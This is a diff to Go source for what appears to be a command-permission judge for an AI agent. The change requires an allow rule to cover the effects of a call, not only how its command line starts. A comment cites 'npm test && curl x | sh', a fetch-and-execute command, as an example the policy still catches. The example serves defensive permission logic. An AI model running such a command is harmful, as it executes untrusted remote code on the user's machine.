@@ -14,8 +14,9 @@ import (
 // wrapper is matched on its own: "timeout 60 npm test" is matched as
 // itself and as "npm test"). Deny and ask rules apply to every command,
 // whatever the policy makes of it; an allow rule only answers a question
-// the policy asks because it cannot judge what runs (asksCode), never a
-// refusal, nor a question about a protected path, a secret or git's
+// the policy asks because it cannot judge what runs (asksCode), and only
+// when the call's kinds of effect are within the rule's (effects.go),
+// never a refusal, nor a question about a protected path, a secret or git's
 // configuration. The line's other commands are judged as ever, so
 // "npm test && curl x | sh" is not allowed by a rule for "npm test".
 
@@ -52,13 +53,16 @@ func (j *judge) asksCode(r rule.Rule, argv []string, reason, hint string) {
 	if j.c.Effects == WorkspaceWrite {
 		j.wrote() // it may change any file of the workspace
 	}
+	eff := j.callEffects(r, written)
 	if j.c.Rules != nil {
-		if m, ok := j.c.Rules.Match(written); ok && m.Decision == rule.OutcomeAllow {
+		// The rule must cover what the call does, not only how it starts
+		// (rules.Rule.Covers): curl to localhost is not an upload.
+		if m, ok := j.c.Rules.Answer(written, eff); ok {
 			j.acc.answered(m.Match)
 			return
 		}
 	}
-	j.acc.asksCode(r, written, reason, hint)
+	j.acc.asksCode(r, written, eff, reason, hint)
 }
 
 // asksWorkspaceProgram asks about a program of the workspace that a bare
